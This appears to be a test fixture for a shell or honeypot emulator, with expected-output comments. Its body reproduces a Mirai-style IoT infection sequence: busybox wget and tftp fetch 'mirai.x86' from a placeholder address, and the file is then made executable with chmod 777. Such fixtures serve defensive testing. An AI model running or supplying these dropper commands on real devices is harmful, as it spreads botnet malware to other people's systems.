# on: debian ubuntu20 ubuntu22 kali alpine
# want: wget: can't connect to remote host (198.51.100.23): No route to host
# want: -rwxrwxrwx
# allow: tftp: applet
cd /tmp || cd /var/run || cd /mnt
/bin/busybox wget http://198.51.100.23/bins/mirai.x86 -O - > dvr; /bin/busybox tftp -g -l dvr -r mirai.x86 198.51.100.23
/bin/busybox chmod 777 dvr; ls -l dvr
